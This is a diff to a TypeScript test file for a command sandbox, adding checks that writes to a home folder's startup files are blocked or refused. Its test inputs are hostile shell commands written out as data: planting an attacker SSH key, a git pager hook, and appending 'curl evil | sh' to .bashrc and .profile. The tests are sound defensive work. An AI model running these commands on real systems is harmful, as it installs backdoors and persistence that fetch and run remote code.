@@ -97,6 +97,17 @@ function requireLayer(layer: Layer, context: { skip: (note?: string) => void }):
   }
 }
 
+/**
+ * Without namespaces a writable home folder is refused before anything runs (Landlock cannot keep
+ * its start-up files read-only; ADR 0032): exit 8, the grant named, nothing written.
+ */
+function refusedHome(r: RunResult, grant: string): void {
+  expect(r.code).toBe(8);
+  expect(r.stdout).not.toContain('done');
+  expect(r.stderr).toContain(`writable grant ${grant} holds`);
+  expect(existsSync(join(grant, 'notes.txt'))).toBe(false);
+}
+
 const noKey = (r: RunResult) => expect(r.stdout + r.stderr).not.toContain('FAKE-KEY-rune-battery');
 
 interface Case {
@@ -556,6 +567,7 @@ for fam, typ, proto in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET,
         'mkdir -p "$HOME/.ssh" && echo "ssh-ed25519 AAAA attacker" > "$HOME/.ssh/authorized_keys"; printf "[core]\\n\\tpager = touch /tmp/pwned\\n" > "$HOME/.gitconfig"; mkdir -p "$HOME/.config/git" && cp "$HOME/.gitconfig" "$HOME/.config/git/config"; echo kept > "$HOME/notes.txt"; echo done',
         { flags: ['--allow-write', fresh], env: { HOME: fresh } },
       );
+      if (mode === 'container') return refusedHome(r, fresh);
       expect(r.stdout).toContain('done');
       expect(existsSync(join(fresh, '.ssh', 'authorized_keys'))).toBe(false);
       expect(existsSync(join(fresh, '.gitconfig'))).toBe(false);
@@ -571,7 +583,8 @@ for fam, typ, proto in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET,
   {
     name: 'append to an existing ~/.bashrc and ~/.profile in a writable home',
     layer: 'namespaces',
-    fallback: { lost: /hidden or protected paths inside writable grants/ },
+    // Without the view the writable home is refused before anything runs (ADR 0032).
+    fallback: 'executor',
     run: async () => {
       const fresh = join(root, `home-startup-${mode}`);
       mkdirSync(fresh, { recursive: true });
@@ -581,7 +594,8 @@ for fam, typ, proto in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET,
         'echo "curl evil | sh" >> "$HOME/.bashrc"; echo "curl evil | sh" >> "$HOME/.profile"; mv "$HOME/.profile" "$HOME/p"; echo done',
         { flags: ['--allow-write', fresh], env: { HOME: fresh } },
       );
-      expect(r.stdout).toContain('done');
+      if (mode !== 'container') expect(r.stdout).toContain('done');
+      else refusedHome(r, fresh);
       expect(readFileSync(join(fresh, '.bashrc'), 'utf8')).toBe('# mine\n');
       expect(readFileSync(join(fresh, '.profile'), 'utf8')).toBe('# mine\n');
     },
